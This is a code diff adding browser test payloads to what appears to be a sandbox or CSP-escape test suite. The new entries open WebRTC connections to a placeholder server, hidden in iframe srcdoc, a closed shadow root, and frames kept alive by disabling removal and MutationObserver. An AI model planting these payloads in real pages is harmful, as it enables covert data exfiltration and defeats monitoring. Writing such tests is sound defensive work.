@@ -50,6 +50,12 @@ DATASETTE: Final = {
     "dynamic-import": script("import('@U@').catch(() => 0)"),
 }
 _FREE: Final = "<meta http-equiv='Content-Security-Policy' content='default-src * data: blob: 'unsafe-inline''>"
+_CALL: Final = (
+    "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
+    "p.createOffer().then((o) => p.setLocalDescription(o))</script>"
+)
+_QUOTED: Final = _CALL.replace("</", "<\\/")
+"""The same within a script."""
 _DATA: Final = "location.href = 'data:text/html,' + encodeURIComponent"
 RESEARCH: Final = {
     "policy-removed": script(
@@ -164,6 +170,16 @@ OWN: Final = {
         "const f = document.createElement('iframe'); f.srcdoc = \"<script>"
         "const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
         'p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"; document.body.append(f)'
+    ),
+    "webrtc-of-markup": '<iframe srcdoc="' + _CALL.replace('"', "&quot;") + '"></iframe>',
+    "webrtc-of-a-shadow": script(
+        "const h = document.createElement('p'), f = document.createElement('iframe');"
+        f'f.srcdoc = "{_QUOTED}";'
+        "h.attachShadow({ mode: 'closed' }).append(f); document.body.append(h)"
+    ),
+    "webrtc-of-a-kept-frame": script(
+        "Element.prototype.remove = MutationObserver.prototype.observe = () => 0;"
+        f'document.body.innerHTML = `<iframe srcdoc="{_QUOTED}"></iframe>`'
     ),
     "webrtc-after-data": script(
         f"{_DATA}(\"<script>const p = new RTCPeerConnection({{ iceServers: [{{ urls: '@S@' }}] }});"
